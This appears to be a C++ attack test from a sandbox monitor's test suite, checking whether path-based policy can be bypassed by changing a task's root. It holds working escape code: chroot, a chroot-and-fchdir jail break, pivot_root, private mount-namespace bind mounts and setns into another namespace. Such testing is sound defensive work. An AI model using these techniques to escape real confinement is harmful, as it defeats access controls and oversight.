// attack: root-change
// class: state
// severity: critical
// models: naive
// needs: root
// trap: Under another root directory $T/ok.dat is another file: chroot("$S/root"), or pivot_root, then
//   open the very name that the policy allows. Or chroot, fchdir out, and walk on from there. Or have
//   $S/root/$T mounted on $T, in a mount namespace of one's own, or in one that setns joins.
// naive: An absolute name is taken from the monitor's root.
// kernel: Absolute walks begin at the task's own root (chroot(2)); readlink of a cwd outside it
//   gives "(unreachable)/...".
// sealed: chroot and its kin are refused; a task whose root is not the monitor's would be resolved
//   from /proc/<tid>/root.
// source: Garfinkel, NDSS 2003; CVE-2018-1000001
// policy:
//   path allow read,execute /usr/**
//   path allow $T/
//   network deny all
// report: none
#include <sys/mount.h>

#include "tests/support/attack.h"

namespace attack {
namespace {

void take_changed() {
  const std::string name = work("ok.dat");
  if (!reads(name, kHarmless)) take(name);
}

// A namespace in which other mounts can be made and are nobody else's.
bool own_mounts() {
  return ::unshare(CLONE_NEWNS) == 0 &&
         ::mount("none", "/", nullptr, MS_REC | MS_PRIVATE, nullptr) == 0;
}
bool mount_over(const std::string& what, const std::string& where) {
  return ::mount(what.c_str(), where.c_str(), nullptr, MS_BIND, nullptr) == 0;
}

void change_root() {
  if (::chroot(secret("root").c_str()) == 0) take_changed();
}
void leave_root() {
  const int outside = ::open("/", O_PATH | O_DIRECTORY);
  must(::mkdir(work("jail").c_str(), 0755) == 0, "mkdir");
  static_cast<void>(::chroot(work("jail").c_str()));
  if (::fchdir(outside) == 0) take("." + secret());
}
void pivot_root() {
  const std::string root = secret("root");
  if (!own_mounts() || !mount_over(root, root) || ::chdir(root.c_str()) != 0) return;
  if (::syscall(SYS_pivot_root, ".", ".") == 0) take_changed();
}
void mount_in_own() {
  if (own_mounts() && mount_over(secret("root") + work(""), work(""))) take_changed();
}
void join_namespace() {
  int go[2];
  must(::pipe(go) == 0, "pipe");
  const pid_t child = spawn([&] {
    const bool mounted = own_mounts() && mount_over(secret("root") + work(""), work(""));
    ::prctl(PR_SET_PDEATHSIG, SIGKILL);
    must(::write(go[1], mounted ? "x" : "-", 1) == 1, "write");
    ::pause();
  });
  char mounted = 0;
  must(::read(go[0], &mounted, 1) == 1, "the child");
  const std::string name = "/proc/" + std::to_string(child) + "/ns/mnt";
  const int space = ::open(name.c_str(), O_RDONLY);
  if (space >= 0 && ::syscall(SYS_setns, space, CLONE_NEWNS) == 0) take_changed();
  ::kill(child, SIGKILL);
  reap(child);
}

}  // namespace

void strike() {
  try_in_child("chroot", change_root);
  try_in_child("chroot, and out again", leave_root);
  try_in_child("pivot_root", pivot_root);
  try_in_child("unshare and mount", mount_in_own);
  try_in_child("setns", join_namespace);
  held("open under the new root");
}

void twin() {
  must(::chroot("/nonexistent/directory") == -1, "chroot to nowhere");
  must(reads(work("ok.dat"), "harmless\n"), "the old root still serves");
  twin_ok();
}

}  // namespace attack
